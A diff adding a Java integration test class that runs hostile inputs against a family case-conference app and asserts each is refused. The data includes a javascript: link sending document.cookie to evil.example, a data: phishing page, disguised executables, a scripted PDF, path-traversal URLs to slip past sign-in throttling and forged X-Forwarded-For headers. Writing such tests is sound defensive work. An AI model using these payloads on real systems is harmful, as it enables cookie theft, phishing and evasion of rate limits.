@@ -1,0 +1,249 @@
+package org.roundtable.conference.it;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.roundtable.conference.it.JsonBodies.json;
+
+import jakarta.json.Json;
+import jakarta.json.JsonObject;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.sql.Connection;
+import java.time.Instant;
+import java.time.LocalDate;
+import java.time.temporal.ChronoUnit;
+import java.util.Base64;
+import java.util.UUID;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.TimeUnit;
+import org.jboss.arquillian.container.test.api.Deployment;
+import org.jboss.arquillian.junit5.ArquillianExtension;
+import org.jboss.shrinkwrap.api.spec.WebArchive;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.roundtable.conference.it.ApiClient.Reply;
+
+/**
+ * The outside hostile pass over what was added last: involvements, scheduling, invitation links
+ * and their answers, and the sign-in code request. Each test is named for the harm it prevents.
+ */
+@ExtendWith(TestEnvironment.class)
+@ExtendWith(ArquillianExtension.class)
+class HostilePassIT {
+
+    private static final String JESS = "jess.taylor@example.org";
+    private static DemoFixture fx;
+
+    @Deployment(testable = false)
+    static WebArchive deployment() {
+        return Deployments.roundtable();
+    }
+
+    @BeforeAll
+    static void fixture() {
+        fx = new DemoFixture();
+    }
+
+    // Involvements: one agency's staff must not decide who else works with the family.
+
+    @Test
+    void staff_of_one_agency_cannot_end_or_take_over_another_agencys_involvement() {
+        var worker = People.staff("social.worker");
+        String family = worker.post("/families", json("name", fx.unique("Referral"))).json().getString("id");
+        var socialCare = worker.get("/families/" + family).json().getJsonArray("involvements").getJsonObject(0);
+        String teacherId = People.staff("teacher").get("/auth/me").json().getString("id");
+        Reply referred = worker.post("/families/" + family + "/involvements", json("agencyId", fx.school,
+                "leadPractitionerId", teacherId, "startsOn", LocalDate.now().minusDays(1).toString()));
+        assertEquals(201, referred.status(), referred::toString);
+
+        var teacher = People.staff("teacher");
+        Reply ended = teacher.put("/families/" + family + "/involvements/" + socialCare.getString("id"), json(
+                "leadPractitionerId", socialCare.getString("leadPractitionerId"), "startsOn", socialCare.getString("startsOn"),
+                "endsOn", LocalDate.now().minusDays(1).toString()));
+        assertEquals(403, ended.status(), ended::toString);
+        assertEquals(200, worker.get("/families/" + family).status(), "children's social care still works with the family");
+
+        String schoolInvolvement = DemoFixture.idWhere(worker.get("/families/" + family).json(), "involvements", "agencyName",
+                "Oakfield Primary School");
+        Reply ownChanged = teacher.put("/families/" + family + "/involvements/" + schoolInvolvement, json(
+                "leadPractitionerId", teacherId, "startsOn", LocalDate.now().minusDays(2).toString()));
+        assertEquals(200, ownChanged.status(), "an agency still changes its own involvement: " + ownChanged);
+    }
+
+    // Administration: an administrator sees no case detail, so must not quietly become a practitioner.
+
+    @Test
+    void a_staff_members_old_address_is_told_when_an_administrator_changes_it_so_no_account_is_taken_quietly() {
+        String staffId = fx.freshStaff();
+        var staff = fx.admin.get("/staff/" + staffId).json();
+        String old = staff.getString("email");
+        String taken = fx.unique("admins.own").toLowerCase() + "@example.org";
+        Reply changed = fx.admin.put("/staff/" + staffId, json("fullName", staff.getString("fullName"), "email", taken,
+                "roles", staff.getJsonArray("roles"), "active", true));
+        assertEquals(200, changed.status(), changed::toString);
+        Mailbox.awaitCount(old, "sign-in email", 1);
+        assertTrue(Mailbox.body(Mailbox.latest(old, "sign-in email")).contains(taken), "the person is told where their sign-in now goes");
+    }
+
+    // Meeting links: only web addresses reach the family's page and calendar.
+
+    @Test
+    void a_meeting_link_that_is_not_a_web_address_is_refused_and_nothing_is_saved() {
+        long before = Database.count("select count(*) from conference where family_id = ?", UUID.fromString(fx.taylors));
+        Reply scripted = fx.chair.post("/conferences", json("familyId", fx.taylors, "kind", "CORE_GROUP",
+                "scheduledStart", inTwoWeeks(), "joinLink", "javascript:fetch('//evil.example/'+document.cookie)"));
+        assertEquals(400, scripted.status(), scripted::toString);
+        assertEquals("joinLink", scripted.json().getJsonArray("errors").getJsonObject(0).getString("field"));
+        assertEquals(before, Database.count("select count(*) from conference where family_id = ?", UUID.fromString(fx.taylors)));
+
+        String id = fx.freshConference();
+        Reply data = fx.chair.put("/conferences/" + id + "/arrangements", json("kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
+                "joinLink", "data:text/html,<h1>Sign in again</h1>"));
+        assertEquals(400, data.status(), data::toString);
+        assertEquals("joinLink", data.json().getJsonArray("errors").getJsonObject(0).getString("field"));
+        Reply web = fx.chair.put("/conferences/" + id + "/arrangements", json("kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
+                "joinLink", "https://meet.example/abc"));
+        assertEquals(200, web.status(), web::toString);
+    }
+
+    // Answers through the invitation link: whoever holds a link must not hurt the chair or the server.
+
+    @Test
+    void a_person_taken_off_the_list_after_their_invitation_went_out_can_no_longer_use_its_link() {
+        String token = invitedJess();
+        String conference = conferenceOf(token);
+        String jessInvitee = DemoFixture.idWhere(fx.chair.get("/conferences/" + conference).json(), "invitees", "name", "Jess Taylor");
+        Reply removed = fx.chair.delete("/conferences/" + conference + "/invitees/" + jessInvitee);
+        assertEquals(200, removed.status(), removed::toString);
+        assertEquals("NOT_VALID", new ApiClient().post("/invitations/page", json("token", token)).json().getString("state"),
+                "the link no longer shows when and where the meeting is");
+        assertEquals(400, reply(token, json("answer", "COMING")).status());
+        assertEquals(401, new ApiClient().post("/auth/invitations/redeem", json("token", token)).status());
+    }
+
+    @Test
+    void taking_someone_whose_views_are_in_the_record_off_the_list_is_refused_clearly() {
+        String token = invitedJess();
+        String conference = conferenceOf(token);
+        assertEquals(204, reply(token, json("answer", "VIEWS", "words", "Please listen to Ryan.")).status());
+        String jessInvitee = DemoFixture.idWhere(fx.chair.get("/conferences/" + conference).json(), "invitees", "name", "Jess Taylor");
+        Reply removed = fx.chair.delete("/conferences/" + conference + "/invitees/" + jessInvitee);
+        assertEquals(409, removed.status(), removed::toString);
+        assertTrue(removed.detail().contains("views"), removed.detail());
+    }
+
+    @Test
+    void views_sent_through_an_invitation_cannot_hand_the_chair_a_program_or_a_web_page() {
+        String token = invitedJess();
+        for (String[] file : new String[][] {{"views.html", "<html><script>location='https://evil.example'</script></html>"},
+                {"views.pdf.exe", "MZ\u0090\u0000 this program cannot be run in DOS mode"},
+                {"views.txt", "MZ\u0090\u0000 this program cannot be run in DOS mode"},
+                {"views.pdf", "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj"}}) {
+            Reply refused = reply(token, views(file[0], file[1].getBytes(StandardCharsets.ISO_8859_1)));
+            assertEquals(400, refused.status(), file[0] + ": " + refused);
+            assertEquals("file", refused.json().getJsonArray("errors").getJsonObject(0).getString("field"), refused::toString);
+        }
+        Reply text = reply(token, views("my views.txt", "I would like the meeting after school.".getBytes(StandardCharsets.UTF_8)));
+        assertEquals(204, text.status(), text::toString);
+        Reply pdf = reply(token, views("my views.pdf", DemoFixture.samplePdf()));
+        assertEquals(204, pdf.status(), pdf::toString);
+    }
+
+    @Test
+    void one_invitation_link_cannot_fill_the_database_or_the_chairs_inbox_with_views() {
+        String token = invitedJess();
+        String invitee = Database.text("select i.id from conference_invitee i join invitation v on v.invitee_id = i.id "
+                + "where v.token_hash = encode(sha256(convert_to(?, 'UTF8')), 'hex')", token);
+        int accepted = 0;
+        for (int n = 0; n < 15; n++) {
+            if (reply(token, json("answer", "VIEWS", "words", "View number " + n)).status() == 204) {
+                accepted++;
+            }
+        }
+        long stored = Database.count("select count(*) from views_before_meeting where invitee_id = ?", UUID.fromString(invitee));
+        assertEquals(10, accepted, "ten sets of views are plenty for one meeting");
+        assertEquals(10, stored);
+    }
+
+    @Test
+    void the_invitation_links_pages_are_throttled_per_source_like_every_other_way_in() {
+        var guesser = ApiClient.from("198.51.100.211");
+        boolean throttled = false;
+        for (int n = 0; n < 260 && !throttled; n++) {
+            throttled = guesser.post("/invitations/page", json("token", "guess-" + n)).status() == 429;
+        }
+        assertTrue(throttled, "guessing invitation links from one address is slowed down");
+    }
+
+    @Test
+    void a_path_that_only_begins_like_signing_out_does_not_escape_the_sign_in_throttle() throws Exception {
+        var source = "198.51.100.212";
+        var client = ApiClient.from(source);
+        boolean throttled = false;
+        for (int n = 0; n < 260 && !throttled; n++) {
+            throttled = client.post("/auth/codes", json("email", "nobody-" + n + "@example.org")).status() == 429;
+        }
+        assertTrue(throttled);
+        for (String path : new String[] {"/api/auth/sign-out/../codes", "/api/auth/sign-out/..;/codes", "/api/auth/sign-out-everywhere/../codes",
+                "/api/auth/sign-out;/../codes"}) {
+            var request = HttpRequest.newBuilder(URI.create(ApiClient.BASE + path)).header("Content-Type", "application/json")
+                    .header("Origin", ApiClient.BASE.toString()).header("X-Forwarded-For", source)
+                    .POST(HttpRequest.BodyPublishers.ofString(json("email", "nobody-else@example.org").toString())).build();
+            int status = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding()).statusCode();
+            assertTrue(status == 429 || status == 404 || status == 400, path + " answered " + status);
+        }
+    }
+
+    // Finding 9: asking for a code must not do more work for an address that signs someone in.
+
+    @Test
+    void asking_for_a_code_writes_nothing_of_the_persons_own_so_a_known_address_looks_like_any_other() throws Exception {
+        int before = Mailbox.count(JESS, "sign-in code");
+        try (Connection lock = Database.connect()) {
+            lock.setAutoCommit(false);
+            // Reads stay possible; any write to a person's codes, guards or mail waits for this transaction.
+            lock.createStatement().execute("lock table one_time_code, sign_in_guard, outbox_mail in exclusive mode");
+            var known = CompletableFuture.supplyAsync(() -> ApiClient.from("198.51.100.213").post("/auth/codes", json("email", JESS)));
+            var unknown = CompletableFuture.supplyAsync(() -> ApiClient.from("198.51.100.214").post("/auth/codes",
+                    json("email", "nobody-at-all@example.org")));
+            Reply knownReply = known.get(10, TimeUnit.SECONDS);
+            Reply unknownReply = unknown.get(10, TimeUnit.SECONDS);
+            assertEquals(200, knownReply.status(), knownReply::toString);
+            assertEquals(unknownReply.status(), knownReply.status());
+            assertEquals(unknownReply.json().keySet(), knownReply.json().keySet());
+            lock.rollback();
+        }
+        Mailbox.awaitCount(JESS, "sign-in code", before + 1);
+    }
+
+    private static String inTwoWeeks() {
+        return Instant.now().plus(14, ChronoUnit.DAYS).truncatedTo(ChronoUnit.HOURS).toString();
+    }
+
+    /** A conference with Jess invited by email; her link's token. */
+    private static String invitedJess() {
+        Reply created = fx.chair.post("/conferences", json("familyId", fx.taylors, "kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
+                "invitees", Json.createArrayBuilder().add(json("role", "FAMILY_MEMBER", "familyMemberId", fx.jess)).build()));
+        assertEquals(201, created.status(), created::toString);
+        Reply sent = fx.chair.post("/conferences/" + created.json().getString("id") + "/invitations", null);
+        assertEquals(200, sent.status(), sent::toString);
+        return Mailbox.latestInvitationToken(JESS);
+    }
+
+    private static String conferenceOf(String token) {
+        return new ApiClient().post("/invitations/page", json("token", token)).json().getString("conferenceId");
+    }
+
+    private static JsonObject views(String fileName, byte[] content) {
+        return json("answer", "VIEWS", "fileName", fileName, "fileBase64", Base64.getEncoder().encodeToString(content));
+    }
+
+    private static Reply reply(String token, JsonObject answer) {
+        return ApiClient.from("198.51.100." + (1 + (int) (Math.random() * 200))).post("/invitations/reply",
+                Json.createObjectBuilder().add("token", token).add("reply", answer).build());
+    }
+}
